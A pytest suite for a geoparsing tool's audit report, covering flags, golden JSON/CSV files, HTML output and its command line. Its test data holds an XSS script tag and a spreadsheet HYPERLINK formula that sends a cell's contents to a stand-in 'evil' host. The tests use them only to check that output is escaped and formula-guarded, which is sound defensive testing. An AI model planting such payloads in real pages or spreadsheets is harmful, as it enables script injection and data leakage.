"""Tests of geomig.audit.report (hand-built documents, golden files) and `geomig audit`.

Golden files live in tests/fixtures/audit/; regenerate them on purpose with
GEOMIG_REGEN_GOLDEN=1 pytest tests/test_audit.py
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
from dataclasses import replace
from html.parser import HTMLParser
from pathlib import Path

import pytest
from typer.testing import CliRunner

from geomig.audit import report as au
from geomig.models import Candidate, GeocodedDocument, Mention

GOLDEN = Path(__file__).parent / "fixtures" / "audit"
SEEDS = Path(__file__).parent.parent / "seeds"

TRIPOLI = ("geonames:2210247", "Tripoli", "LY", 32.88743, 13.18733)
TARABULUS = Candidate("geonames:2210245", "Ţarābulus", "LY", 32.6867, 13.5154, 0.147, "admin")
TRIPOLI_LB = Candidate("geonames:266826", "Tripoli", "LB", 34.43352, 35.84415, 0.001, "city")
ALEXANDRIA_EG = ("geonames:361058", "Alexandria", "EG", 31.20176, 29.91582)
ALEXANDRIA_US = Candidate("geonames:4744091", "Alexandria", "US", 38.80484, -77.04692, 0.41, "city")
NICE_FR = ("geonames:2990440", "Nice", "FR", 43.70313, 7.26608)
NICE_US = Candidate("geonames:5376890", "Nice", "US", 39.12323, -122.84833, 0.48, "city")
PARIS_FR = ("geonames:2988507", "Paris", "FR", 48.85341, 2.3488)
PARIS_TX = Candidate("geonames:4717560", "Paris", "US", 33.66094, -95.55551, 0.3, "city")

HOSTILE = "<script>alert(1)</script>"


def sentences_of(text: str) -> tuple[tuple[int, int], ...]:
    return tuple((m.start(), m.end()) for m in re.finditer(r"[^.!?]+[.!?]?", text) if m.group().strip())


def make_mention(text: str, doc_text: str, place: tuple | None, *, kind: str = "city", confidence: float = 0.0,
                 alternatives=(), evidence: str = "", flags=(), nth: int = 0) -> Mention:
    start = -1
    for _ in range(nth + 1):
        start = doc_text.index(text, start + 1)
    sentence = next(i for i, (a, b) in enumerate(sentences_of(doc_text)) if a <= start < b)
    pid, name, country, lat, lon = place if place else (None,) * 5
    return Mention(text, start, start + len(text), sentence, kind, pid, name, country, lat, lon,
                   confidence, tuple(alternatives), evidence, tuple(flags))


def sample_docs() -> list[GeocodedDocument]:
    a = "Boats left Tripoli at dawn. The Libya Observer reported arrivals near Garabulli and in southern Libya."
    b = f"Alexandria officials met {HOSTILE} in Paris & Nice."
    doc_a = GeocodedDocument("reports/a.txt", a, sentences_of(a), (
        make_mention("Tripoli", a, TRIPOLI, confidence=0.821, alternatives=[TARABULUS, TRIPOLI_LB],
                     evidence="capital; population 1.3M; text is about LY"),
        make_mention("Libya", a, None, kind="", evidence="not a place here: organisation", flags=["organisation"]),
        make_mention("Garabulli", a, None, kind="", evidence="not a place here: no gazetteer entry", flags=["unresolved"]),
        make_mention("southern Libya", a, ("geomig:south:geonames:2215636", "southern Libya", "LY", 26.5, 15.0),
                     kind="region", confidence=0.99, evidence="south part of Libya", flags=["vague"]),
    ))
    doc_b = GeocodedDocument(f"reports/{HOSTILE}.txt", b, sentences_of(b), (
        make_mention("Alexandria", b, ALEXANDRIA_EG, confidence=0.45, alternatives=[ALEXANDRIA_US],
                     evidence=f"population 4.5M; said {HOSTILE}"),
        make_mention("Paris", b, PARIS_FR, confidence=1.0, alternatives=[PARIS_TX],
                     evidence="override: 'Paris' pinned to geonames:2988507 (o.toml:2)", flags=["overridden"]),
        make_mention("Nice", b, NICE_FR, confidence=0.6, alternatives=[NICE_US], evidence="population 340k"),
    ))
    return [doc_a, doc_b]


def sample_picture():
    """The picture of sample_docs as far as the audit reads it: Tripoli a launch point in its sentence."""
    from shapely.geometry import Point

    from geomig.picture import Feature, Picture, Source

    a = sample_docs()[0]
    start, end = a.sentences[0]
    source = Source(a.doc, start, end, a.text[start:end])
    launch = Feature("launch_point", "Tripoli", TRIPOLI[0], Point(TRIPOLI[4], TRIPOLI[3]), 0.7,
                     "launch.departure: “Boats left Tripoli”; launch.point: “Tripoli, the main port”", (source,))
    place = Feature("place", "Tripoli", TRIPOLI[0], Point(TRIPOLI[4], TRIPOLI[3]), 0.821, "geocoded", (source,))
    return Picture((place, launch), (a.doc,))


@pytest.fixture
def rows() -> list[au.AuditRow]:
    return au.audit(sample_docs(), picture=sample_picture())


def test_rows_carry_the_roles_their_sentence_gives_with_rule_ids_and_role_confidence(rows):
    by_text = {r.text: r for r in rows}
    # Only the rule whose words the sentence holds: "Tripoli, the main port" is another sentence's.
    assert by_text["Tripoli"].roles == (au.RoleNote("launch_point", ("launch.departure",), 0.7, ("Boats left Tripoli",)),)
    # The words the rule fired on, quoted: never a verb standing for them.
    assert str(by_text["Tripoli"].roles[0]) == "launch point 0.70 [launch.departure: “Boats left Tripoli”]"
    assert str(au.RoleNote("origin", ("origin.fled",), 0.5)) == "origin 0.50 [origin.fled]"
    assert all(r.roles == () for r in rows if r.text != "Tripoli")
    assert all(r.roles == () for r in au.audit(sample_docs()))          # no picture, no roles


def test_every_report_explains_both_confidences_and_names_the_rules(rows):
    data = json.loads(au.to_json(rows))
    assert data["confidences"] == {"place": au.PLACE_CONFIDENCE, "role": au.ROLE_CONFIDENCE}
    tripoli = next(m for m in data["mentions"] if m["text"] == "Tripoli")
    assert tripoli["roles"] == [{"role": "launch_point", "rules": ["launch.departure"], "confidence": 0.7,
                                 "words": ["Boats left Tripoli"]}]
    record = next(r for r in csv.DictReader(io.StringIO(au.to_csv(rows))) if r["text"] == "Tripoli")
    assert (record["roles"], record["role_confidence"], record["rules"]) == ("launch_point", "0.700", "launch.departure")
    page = au.to_html(sample_docs(), rows)
    assert au.PLACE_CONFIDENCE in page and au.ROLE_CONFIDENCE in page
    assert "launch point 0.70 <small>launch.departure</small> <q>Boats left Tripoli</q>" in page


# --------------------------------------------------------------------------- rows and flags

def test_rows_worst_first_with_flags(rows):
    assert [(r.text, r.flags) for r in rows] == [
        ("Alexandria", ("low-confidence", "ambiguous")),   # uncertain place on the map
        ("Nice", ("ambiguous",)),                          # margin 0.6 - 0.48 = 0.12
        ("Garabulli", ("unresolved",)),                    # a place the gazetteer may lack
        ("southern Libya", ("vague-region",)),
        ("Libya", ("organisation",)),                      # inside "The Libya Observer"
        ("Tripoli", ()),                                   # sound choice
        ("Paris", ("overridden",)),                        # the analyst's own decision
    ]
    assert [r.needs_review for r in rows] == [True] * 5 + [False] * 2


def test_row_fields(rows):
    tripoli = next(r for r in rows if r.text == "Tripoli")
    assert (tripoli.doc, tripoli.start, tripoli.end, tripoli.id, tripoli.country) == ("reports/a.txt", 11, 18, "geonames:2210247", "LY")
    assert tripoli.margin == pytest.approx(0.821 - 0.147)
    assert tripoli.sentence == "Boats left Tripoli at dawn."
    assert tripoli.alternatives == (TARABULUS, TRIPOLI_LB)
    garabulli = next(r for r in rows if r.text == "Garabulli")
    assert (garabulli.id, garabulli.margin, garabulli.lat) == (None, None, None)
    assert garabulli.sentence == "The Libya Observer reported arrivals near Garabulli and in southern Libya."


@pytest.mark.parametrize("min_confidence, expected", [
    (0.3, ("ambiguous",)), (0.5, ("low-confidence", "ambiguous")), (0.9, ("low-confidence", "ambiguous")),
])
def test_min_confidence(min_confidence, expected):
    rows = au.audit(sample_docs(), min_confidence=min_confidence)
    assert next(r for r in rows if r.text == "Alexandria").flags == expected
    tripoli = next(r for r in rows if r.text == "Tripoli")
    assert ("low-confidence" in tripoli.flags) is (min_confidence > 0.821)


def test_unknown_rejection_without_flag_is_unresolved():
    text = "Rain in Qasr Bin Ghashir."
    m = Mention("Qasr Bin Ghashir", 8, 24, 0, "", None, None, None, None, None, 0.0)
    (row,) = au.audit([GeocodedDocument("d", text, ((0, len(text)),), (m,))])
    assert row.flags == ("unresolved",)


def test_a_name_no_place_of_which_fits_is_reviewed_after_the_sound_choices():
    # A heading word the resolver found implausible is not "a place the gazetteer may lack":
    # it waits at the end of the list with the persons and common words, not at its head.
    text = "BRIEFING Boats left Zuwara."
    heading = Mention("BRIEFING", 0, 8, 0, "", None, None, None, None, None, 0.0,
                      evidence="not a place here: implausible", flags=("implausible",))
    zuwara = Mention("Zuwara", 20, 26, 0, "city", "geonames:2208425", "Zuwarah", "LY", 32.93, 12.08, 0.95)
    rows = au.audit([GeocodedDocument("d", text, ((0, len(text)),), (heading, zuwara))])
    assert [(r.text, r.flags) for r in rows] == [("Zuwara", ()), ("BRIEFING", ("implausible",))]
    assert not rows[1].needs_review


def _audited(text: str) -> list:
    from geomig.geoparse.geocode import geocode_document
    from geomig.models import Document

    return au.audit([geocode_document(Document("d", text), keep_rejected=True)])


@pytest.mark.parametrize("text, word", [
    # A word that is no place, capitalised by a quote, an organisation's name or a heading,
    # is no place to review: no row at all where no preposition comes before it ...
    ('"We had nothing left," said a woman who walked from Sudan into Chad.', "We"),
    ("The UN refugee Agency said forty people reached Lampedusa.", "Agency"),
])
def test_a_word_no_place_context_surrounds_is_no_row(text, word):
    rows = _audited(text)
    assert word not in [r.text for r in rows] and any(r.id for r in rows)


def test_words_turned_down_are_listed_last_not_as_unresolved():
    # ... and a heading's capitals read as acronyms, a street's word or a currency's
    # adjective are words turned down, listed after the sound choices, never "unresolved".
    rows = _audited("WE WANT TO WORK, said a sign in Calais. They paid 300 US dollars each.")
    turned_down = [r for r in rows if r.id is None]
    assert {r.text for r in turned_down} >= {"WE", "US"}
    assert all(not r.needs_review and "unresolved" not in r.flags for r in turned_down)
    assert rows[0].text == "Calais"


def test_a_place_name_in_a_pathogens_is_a_word_turned_down():
    # "West Nile" of the virus is no place the gazetteer lacks: no review, listed after Cairo.
    rows = _audited("A West Nile virus case was confirmed in Cairo on Friday.")
    assert [(r.flags, r.needs_review) for r in rows if r.id is None] == [(("pathogen",), False)]
    assert rows[0].text == "Cairo"


@pytest.mark.parametrize("text", [
    "The UN refugee Agency said boats left Tripoli for Lampedusa, and Nur Ahmed said so too.",
    "WE ARE HUMAN, read a banner in Calais, where the Orchard Street camp was cleared.",
    "The mounds near Sabratha date from 500 BC to 1000 AD, guides in Zuwara say.",
])
def test_the_audits_places_are_the_geocodings(text):
    # The phrases turned down come back for the audit without moving what it chooses.
    import geomig

    assert [r.id for r in _audited(text) if r.id] == [m.id for m in geomig.geocode(text)]


def test_sentence_falls_back_when_index_is_stale():
    text = "One. Two in Tunis. Three."
    m = Mention("Tunis", 12, 17, 7, "city", "geonames:2464470", "Tunis", "TN", 36.8, 10.2, 0.9)
    (row,) = au.audit([GeocodedDocument("d", text, ((0, 4),), (m,))])
    assert row.sentence == "Two in Tunis."


# --------------------------------------------------------------------------- golden files

def check_golden(name: str, actual: str) -> None:
    path = GOLDEN / name
    if os.environ.get("GEOMIG_REGEN_GOLDEN") == "1":
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_text(actual, encoding="utf-8")
    assert path.exists(), f"{path} missing: run with GEOMIG_REGEN_GOLDEN=1 to create it"
    assert actual == path.read_text(encoding="utf-8"), f"{name} changed; regenerate with GEOMIG_REGEN_GOLDEN=1 if intended"


def test_json_golden(rows):
    text = au.to_json(rows)
    check_golden("audit.json", text)
    data = json.loads(text)["mentions"]
    assert data[0]["alternatives"][0] == {"id": "geonames:4744091", "name": "Alexandria", "country": "US",
                                          "lat": 38.80484, "lon": -77.04692, "score": 0.41, "same_place": False}


def test_csv_golden(rows):
    text = au.to_csv(rows)
    check_golden("audit.csv", text)
    records = list(csv.DictReader(io.StringIO(text)))
    assert tuple(records[0]) == au.CSV_COLUMNS
    assert records[0]["flags"] == "low-confidence; ambiguous"
    assert records[0]["alternatives"] == "geonames:4744091 Alexandria (US) 0.410"
    assert records[2]["id"] == "" and records[2]["margin"] == ""


FORMULA = '=HYPERLINK("http://evil/?"&A1,"x")'


def formula_doc() -> GeocodedDocument:
    text = f"{FORMULA} and boats left Tripoli. +Rome said @once."
    cut = text.index("+Rome")
    # The sentences are given: the helper would split at the URL's "?".
    return GeocodedDocument("-docs/=a.txt", text, ((0, cut - 1), (cut, len(text))), tuple(
        replace(m, sentence=int(m.start >= cut)) for m in (
        make_mention("Tripoli", text, (TRIPOLI[0], "=Tripoli", "LY", 32.88743, -13.18733), confidence=0.6,
                     alternatives=[Candidate(TARABULUS.id, "@Tarabulus", "LY", 32.6867, 13.5154, 0.7, "admin")],
                     evidence="-population 1.3M"),
        make_mention("Rome", text, ("geonames:3169070", "Rome", "IT", 41.89193, 12.51133), confidence=0.9,
                     evidence="\tcapital"),
    )))


def test_csv_guards_formulas():
    records = list(csv.DictReader(io.StringIO(au.to_csv(au.audit([formula_doc()])))))
    tripoli = next(r for r in records if r["text"] == "Tripoli")
    # Text cells that a spreadsheet would run as a formula get a leading "'" (OWASP).
    assert tripoli["sentence"] == f"'{FORMULA} and boats left Tripoli."
    assert (tripoli["doc"], tripoli["name"], tripoli["evidence"]) == ("'-docs/=a.txt", "'=Tripoli", "'-population 1.3M")
    rome = next(r for r in records if r["text"] == "Rome")
    assert rome["sentence"] == "'+Rome said @once." and rome["evidence"] == "'\tcapital"
    # Numbers stay numbers: a negative margin or longitude is data, not a formula.
    assert (tripoli["margin"], tripoli["lon"]) == ("-0.100", "-13.18733")
    for r in records:
        assert not any(v.startswith(("=", "+", "@", "\t", "\r")) for v in r.values())
        assert all(not v.startswith("-") for k, v in r.items() if k not in ("margin", "lon", "lat"))


def test_geocode_csv_guards_formulas():
    # geomig.documents.outputs' CSV (geocode --format csv) follows the same rule.
    from geomig.documents.outputs import render

    records = list(csv.DictReader(io.StringIO("".join(render([formula_doc()], "csv")))))
    assert [(r["doc"], r["name"], r["evidence"], r["lon"]) for r in records] == [
        ("'-docs/=a.txt", "'=Tripoli", "'-population 1.3M", "-13.18733"),
        ("'-docs/=a.txt", "Rome", "'\tcapital", "12.51133"),
    ]


def test_writers_are_deterministic():
    assert au.to_json(au.audit(sample_docs())) == au.to_json(au.audit(list(reversed(sample_docs()))))


# --------------------------------------------------------------------------- html

class _Collector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags: list[str] = []
        self.marks: list[tuple[str, str]] = []
        self._mark: str | None = None
        self.text: list[str] = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        if tag == "mark":
            self._mark = dict(attrs)["class"]
            self.marks.append((self._mark, ""))

    def handle_endtag(self, tag):
        if tag == "mark":
            self._mark = None

    def handle_data(self, data):
        self.text.append(data)
        if self._mark is not None:
            cls, so_far = self.marks[-1]
            self.marks[-1] = (cls, so_far + data)


def test_html_escapes_everything(rows):
    page = au.to_html(sample_docs(), rows)
    assert "<script" not in page.lower()
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    parsed = _Collector()
    parsed.feed(page)
    assert "script" not in parsed.tags
    # The hostile text comes back as text, in the document, its name and the evidence.
    assert sum(HOSTILE in t for t in parsed.text) >= 3


def test_html_highlights_by_confidence(rows):
    parsed = _Collector()
    parsed.feed(au.to_html(sample_docs(), rows, title="Audit & review"))
    assert parsed.marks == [
        ("high", "Tripoli"), ("none", "Libya"), ("none", "Garabulli"), ("high", "southern Libya"),
        ("low", "Alexandria"), ("fixed", "Paris"), ("mid", "Nice"),
    ]
    assert "Audit & review" in "".join(parsed.text)


def test_html_marks_link_to_decisions(rows):
    page = au.to_html(sample_docs(), rows)
    ids = re.findall(r'<mark id="([^"]+)"', page)
    links = re.findall(r'<a href="#([^"]+)"', page)
    assert sorted(ids) == sorted(links) and len(ids) == 7


def test_html_skips_overlapping_marks_but_keeps_rows():
    text = "Floods in southern Libya."
    outer = Mention("southern Libya", 10, 24, 0, "region", "geomig:south:geonames:2215636", "southern Libya",
                    "LY", 26.5, 15.0, 0.99, flags=("vague",))
    inner = Mention("Libya", 19, 24, 0, "country", "geonames:2215636", "Libya", "LY", 28.0, 17.0, 0.99)
    docs = [GeocodedDocument("d", text, ((0, len(text)),), (outer, inner))]
    page = au.to_html(docs, au.audit(docs))
    assert page.count("<mark ") == 1 and page.count("<tr>") == 3     # header + two decisions
    assert page.count('<a href="#') == 1                             # only to a mark that exists


# --------------------------------------------------------------------------- map layer

def test_audit_layer_rows_are_the_placed_doubtful_mentions():
    layer = au.audit_layer_rows(au.audit(sample_docs()))
    assert [r.text for r in layer] == ["Alexandria", "Nice"]
    alex = layer[0]
    assert (alex.id, alex.name, alex.country, alex.lat, alex.lon) == ("geonames:361058", "Alexandria", "EG",
                                                                    31.20176, 29.91582)
    assert [(a.id, a.lat, a.lon) for a in alex.alternatives] == [("geonames:4744091", 38.80484, -77.04692)]
    assert alex.flags == ("low-confidence", "ambiguous") and round(alex.margin, 3) == 0.04
    assert alex.sentence == f"Alexandria officials met {HOSTILE} in Paris & Nice."


# --------------------------------------------------------------------------- CLI (real geocoder)

@pytest.fixture
def cli():
    from geomig.cli import app
    runner = CliRunner()
    return lambda *args: runner.invoke(app, [str(a) for a in args])


def test_cli_audit_seeds_json(cli):
    result = cli("audit", SEEDS, "--format", "json")
    assert result.exit_code == 0, result.output
    mentions = json.loads(result.stdout)["mentions"]
    assert all(isinstance(m["flags"], list) for m in mentions)
    tripoli = [m for m in mentions if m["text"].lower() == "tripoli"]
    assert tripoli and all(m["id"] == "geonames:2210247" for m in tripoli)
    assert any(m["text"] == "southern Libya" and "vague-region" in m["flags"] for m in mentions)
    # Places inside "The Washington Post" come back only as organisation rows.
    washington = [m for m in mentions if "Washington" in m["text"]]
    assert washington and all(m["id"] is None and "organisation" in m["flags"] for m in washington)
    # Worst first: nothing that needs review comes after a sound choice.
    reviewed = [bool({"low-confidence", "ambiguous", "unresolved", "vague-region", "organisation"} & set(m["flags"]))
                for m in mentions if "overridden" not in m["flags"] and not {"person", "common-word"} & set(m["flags"])]
    assert reviewed == sorted(reviewed, reverse=True)


def test_cli_table(cli):
    result = cli("audit", SEEDS / "000_efb95829528522da.txt")
    assert result.exit_code == 0, result.output
    assert "geomig audit:" in result.stdout and "geonames:2210247" in result.stdout
    flat = " ".join(result.stdout.split())
    assert au.PLACE_CONFIDENCE in flat and au.ROLE_CONFIDENCE in flat
    assert "control zone 0.90" in flat and "[control.contested:" in flat     # then the words it fired on, quoted


def test_cli_json_gives_the_seeds_roles(cli):
    result = cli("audit", SEEDS, "--format", "json")
    mentions = json.loads(result.stdout)["mentions"]
    sabratha = {rule for m in mentions if m["text"] == "Sabratha" for n in m["roles"] for rule in n["rules"]}
    assert {"launch.point", "launch.departure", "control.militia"} <= sabratha


def test_cli_accept_pins_and_audit_shows_it(cli, tmp_path):
    story = tmp_path / "story.txt"
    story.write_text("Smugglers moved the boats out of Tripoli overnight, officials in Libya said.\n")
    overrides = tmp_path / "overrides.toml"
    result = cli("audit", story, "--format", "json", "--overrides", overrides, "--accept", "Tripoli=geonames:266826")
    assert result.exit_code == 0, result.output
    assert f"Accepted: 'Tripoli' -> geonames:266826 (written to {overrides})" in result.stderr
    assert 'text = "Tripoli"\nid = "geonames:266826"' in overrides.read_text()
    (tripoli,) = [m for m in json.loads(result.stdout)["mentions"] if m["text"] == "Tripoli"]
    assert (tripoli["id"], tripoli["country"], tripoli["confidence"]) == ("geonames:266826", "LB", 1.0)
    assert "overridden" in tripoli["flags"]
    assert tripoli["alternatives"][0]["id"] == "geonames:2210247"     # geomig's own choice kept
    # The file now applies by itself, and an ignore removes the mention.
    again = cli("audit", story, "--format", "csv", "--overrides", overrides, "--accept", "Libya=ignore")
    assert again.exit_code == 0, again.output
    assert "geonames:266826" in again.stdout and ",Libya," not in again.stdout


def test_cli_html_to_file(cli, tmp_path):
    story = tmp_path / "hostile.txt"
    story.write_text(f"Boats left Tripoli. {HOSTILE} Rome said nothing.\n")
    out = tmp_path / "audit.html"
    result = cli("audit", story, "-o", out)
    assert result.exit_code == 0, result.output
    page = out.read_text()
    assert page.startswith("<!DOCTYPE html>") and "<script" not in page and "&lt;script&gt;" in page
    assert re.search(r'<mark id="d0-m\d+" class="\w+" title="[^"]*">Tripoli</mark>', page)
    assert "Wrote" in result.stderr


def test_cli_csv_of_a_hostile_document(cli, tmp_path):
    story = tmp_path / "story.txt"
    story.write_text(f"{FORMULA} and boats left Tripoli for Lampedusa.\n")
    out = tmp_path / "review.csv"
    result = cli("audit", story, "-o", out)
    assert result.exit_code == 0, result.output
    records = list(csv.DictReader(io.StringIO(out.read_text())))
    tripoli = next(r for r in records if r["text"] == "Tripoli")
    assert tripoli["sentence"] == f"'{FORMULA} and boats left Tripoli for Lampedusa."
    assert not any(v.startswith(("=", "+", "@")) for r in records for v in r.values())


@pytest.mark.parametrize("name, fmt, first", [
    ("out.csv", None, "doc,start,end"),
    ("out.JSON", None, "{"),
    ("out.htm", None, "<!DOCTYPE html>"),
    ("nested/deeper/out.html", None, "<!DOCTYPE html>"),     # missing directories are made
    ("out.txt", "table", "geomig audit:"),
    ("out", "json", "{"),
])
def test_cli_output_format_from_suffix(cli, tmp_path, name, fmt, first):
    story = tmp_path / "s.txt"
    story.write_text("Rain in Tripoli.\n")
    out = tmp_path / name
    result = cli("audit", story, "-o", out, *(["--format", fmt] if fmt else []))
    assert result.exit_code == 0, result.output
    assert out.read_text().lstrip().startswith(first)
    assert [p.name for p in out.parent.iterdir() if p.name.endswith(".tmp")] == []


@pytest.mark.parametrize("name", ["out.txt", "out", "out.pdf"])
def test_cli_unknown_output_suffix_is_a_usage_error(cli, tmp_path, name):
    story = tmp_path / "s.txt"
    story.write_text("Rain in Tripoli.\n")
    result = cli("audit", story, "-o", tmp_path / name)
    assert result.exit_code == 2
    message = " ".join(result.output.replace("│", " ").split())
    assert ": cannot tell the format from" in message
    assert "use .csv, .json, .html or .htm, or give --format" in message
    assert not (tmp_path / name).exists()


def test_cli_output_is_atomic(cli, tmp_path, monkeypatch):
    story = tmp_path / "s.txt"
    story.write_text("Rain in Tripoli.\n")
    out = tmp_path / "review.csv"
    out.write_text("yesterday's review\n")

    def full_disk(src, dst):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(os, "replace", full_disk)
    result = cli("audit", story, "-o", out)
    assert result.exit_code == 1
    assert result.stderr == f"Error: cannot write {out}: No space left on device\n"
    assert out.read_text() == "yesterday's review\n"        # the old file is untouched
    assert sorted(p.name for p in tmp_path.iterdir()) == ["review.csv", "s.txt"]


def test_cli_unwritable_output_is_one_line(cli, tmp_path):
    story = tmp_path / "s.txt"
    story.write_text("Rain in Tripoli.\n")
    result = cli("audit", story, "-o", story / "out.csv")      # a file is not a directory
    assert result.exit_code == 1
    assert result.stderr.startswith(f"Error: cannot write {story / 'out.csv'}: ")
    assert len(result.stderr.splitlines()) == 1


@pytest.mark.parametrize("args, code, message", [
    (["--accept", "Tripoli=geonames:266826"], 2, "--accept needs --overrides FILE"),
    (["--format", "pdf"], 2, "expected one of table, csv, json, html"),
    (["--overrides", "{bad}"], 1, "Error: {bad}:3: unknown id 'geonames:1' (try `geomig gazetteer search NAME`)"),
    (["--overrides", "{missing}"], 1, "Error: {missing}: no such overrides file"),
])
def test_cli_errors(cli, tmp_path, args, code, message):
    story = tmp_path / "s.txt"
    story.write_text("Rain in Tripoli.\n")
    bad = tmp_path / "bad.toml"
    bad.write_text('[[pin]]\ntext = "Tripoli"\nid = "geonames:1"\n')
    fill = {"bad": bad, "missing": tmp_path / "none.toml"}
    args = [a.format(**fill) for a in args]
    result = cli("audit", story, *args)
    assert result.exit_code == code
    output = result.stderr if code == 1 else result.output
    assert message.format(**fill) in output


def test_cli_bad_file_is_reported_and_skipped(cli, tmp_path):
    (tmp_path / "good.txt").write_text("Rain in Tripoli.\n")
    (tmp_path / "empty.txt").write_text("")
    result = cli("audit", tmp_path, "--format", "json")
    assert result.exit_code == 1
    assert "empty.txt: file is empty" in result.stderr
    assert any(m["text"] == "Tripoli" for m in json.loads(result.stdout)["mentions"])


def test_cli_only_flagged_and_csv_to_file(cli, tmp_path):
    out = tmp_path / "review.csv"
    result = cli("audit", SEEDS, "--only-flagged", "-o", out)
    assert result.exit_code == 0, result.output
    records = list(csv.DictReader(io.StringIO(out.read_text())))
    review = {"low-confidence", "ambiguous", "unresolved", "vague-region", "organisation"}
    assert records and all(review & set(r["flags"].split("; ")) for r in records)
    assert any(r["text"] == "southern Libya" for r in records)
